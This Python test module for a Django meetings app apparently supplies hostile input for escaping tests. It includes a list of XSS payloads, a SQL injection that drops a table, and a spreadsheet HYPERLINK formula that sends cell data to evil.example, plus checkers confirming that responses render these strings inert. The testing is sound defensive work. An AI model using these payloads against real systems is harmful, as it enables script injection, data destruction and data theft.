"""A corpus of hostile strings and the checks that prove a response shows them as text.

Every script payload sets `window.__xss` (and most call alert), so a browser test can
tell whether any of them ran; the static checks look for markup they would create.
"""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser
from xml.etree import ElementTree

from django.db.models import Model
from django.http import HttpResponse

from safetyhub.meetings.models import (
    Attendance,
    Directive,
    Meeting,
    MeetingSource,
    Official,
    Region,
    RegionLevel,
    Sector,
)

XSS = [
    "<script>window.__xss=1;alert(1)</script>",
    '"><script>window.__xss=2;alert(2)</script>',
    '\'><img src=x onerror="window.__xss=3;alert(3)">',
    "<svg/onload=window.__xss=4>",
    "</title><script>window.__xss=5</script>",
    "</textarea></pre><script>window.__xss=6</script>",
    '<iframe srcdoc="<script>parent.__xss=7</script>"></iframe>',
    "javascript:window.__xss=8",
    '<a href="javascript:window.__xss=9">click</a>',
    "]]></title><script>window.__xss=10</script><![CDATA[",
    "<details open ontoggle=window.__xss=11>",
    "\u2028\u2029</script><script>window.__xss=12</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=13>",
    "{{ request }}{% debug %}<!--",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
]
# Fields with a short max_length get a short payload that still executes if unescaped.
SHORT = "<svg onload=window.__xss=20>"
assert len(SHORT) <= 32

# Queries that are syntax in FTS5, tsquery, LIKE or SQL, and must be taken as data.
SEARCH_SYNTAX = [
    '"',
    '"unterminated',
    "*",
    "安全*",
    "a OR b AND NOT c",
    "NEAR(安全 生产, 2)",
    "title:fire",
    "body:*",
    "( ) ( (",
    "!!! & | <-> :*",
    "fire & !(water | 'x')",
    "'; DROP TABLE meetings_meeting; --",
    "%_%",
    "\\",
    "^ $ + ? { }",
    "\x00null",
    "-",
    "--",
    "\u202e\u200b",
    "安全 " * 200,
]

HOSTILE_TITLE = XSS[0] + " " + XSS[2]


def make_hostile_data() -> dict[str, Model]:
    """Create one meeting, official, directive, region and sector made of hostile text."""
    region = Region.objects.create(
        code="9901Z99", name_zh=SHORT, name_en=XSS[3], level=RegionLevel.ZONE, in_gazetteer=False
    )
    sector = Sector.objects.create(slug="xss-sector", name_en=XSS[4], name_zh=SHORT)
    official = Official.objects.create(name_zh=SHORT, name_en=XSS[1][:96], aliases=[XSS[5]])
    body = "\n".join(["安全生产 fire safety 会议 " + p for p in XSS])
    meeting = Meeting.objects.create(
        title=HOSTILE_TITLE,
        outlet=XSS[6],
        reporter=XSS[9][:200],
        body=body,
        raw_text=body,
        content_hash="xss" * 8,
        region=region,
        spans={"title": [0, 5]},
        attention_reasons=[XSS[10]],
    )
    meeting.set_held_date(2023, 10, 27)
    meeting.save()
    meeting.sectors.add(sector)
    MeetingSource.objects.create(meeting=meeting, location="seeds/" + XSS[8])
    attendance = Attendance.objects.create(
        meeting=meeting,
        official=official,
        spoke=True,
        title=XSS[11],
        titles=[XSS[11], XSS[12]],
        spans=[[0, 4]],
    )
    directive = Directive.objects.create(meeting=meeting, issuer=official, text=" ".join(XSS), order=1)
    directive.sectors.add(sector)
    return {
        "meeting": meeting,
        "official": official,
        "directive": directive,
        "region": region,
        "sector": sector,
        "attendance": attendance,
    }


class _MarkupFinder(HTMLParser):
    """Collect markup that a hostile string would create if it were not escaped."""

    URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...> event handler attribute")
            elif name in self.URL_ATTRS and value.strip().lower().startswith(
                ("javascript:", "data:text/html")
            ):
                self.problems.append(f"<{tag} {name}={value[:40]!r}> script URL")
            elif name in ("srcdoc", "style") and "__xss" in value:
                self.problems.append(f"<{tag} {name}=...> carries a payload")
        if tag in ("script", "style", "iframe"):
            self._in.append(tag)
            if tag == "iframe":
                self.problems.append("<iframe> in a page")

    def handle_endtag(self, tag: str) -> None:
        if self._in and self._in[-1] == tag:
            self._in.pop()

    def handle_data(self, data: str) -> None:
        if self._in and self._in[-1] in ("script", "style") and "__xss" in data:
            self.problems.append(f"payload inside <{self._in[-1]}>: {data[:60]!r}")


def unescaped_markup(html: str) -> list[str]:
    """List the places where hostile markup would run in this HTML; [] when it is all text."""
    finder = _MarkupFinder()
    finder.feed(html)
    finder.close()
    problems = finder.problems
    for payload in [*XSS, SHORT]:
        if "<" in payload and payload in html:
            problems.append(f"raw payload in page: {payload[:40]!r}")
    return problems


def response_problems(response: HttpResponse) -> list[str]:
    """Check one response of any kind (HTML page, JSON, CSV export, XML feed) for live markup."""
    content_type = response.get("Content-Type", "")
    body = b"".join(response.streaming_content) if response.streaming else response.content  # type: ignore[attr-defined]
    text = body.decode(response.charset or "utf-8", errors="replace")
    problems: list[str] = []
    if "text/html" in content_type:
        problems += unescaped_markup(text)
    elif "json" in content_type:
        try:
            json.loads(text)
        except ValueError as exc:
            problems.append(f"invalid JSON: {exc}")
        if response.get("X-Content-Type-Options") != "nosniff":
            problems.append("JSON without X-Content-Type-Options: nosniff")
    elif "xml" in content_type:
        try:
            root = ElementTree.fromstring(body)
        except ElementTree.ParseError as exc:
            problems.append(f"feed is not well-formed XML: {exc}")
        else:
            for element in root.iter():
                local = element.tag.rsplit("}", 1)[-1].lower()
                if local in ("script", "iframe", "svg", "img"):
                    problems.append(f"<{local}> element in a feed")
    elif "csv" in content_type:
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
            for cell in row:
                if cell[:1] in ("=", "+", "@") and "HYPERLINK" in cell:
                    problems.append(f"spreadsheet formula in export cell: {cell[:40]!r}")
        if response.get("X-Content-Type-Options") != "nosniff":
            problems.append("export without X-Content-Type-Options: nosniff")
    elif content_type.startswith("text/plain"):
        pass
    else:
        problems.append(f"unexpected content type {content_type!r}")
    return problems
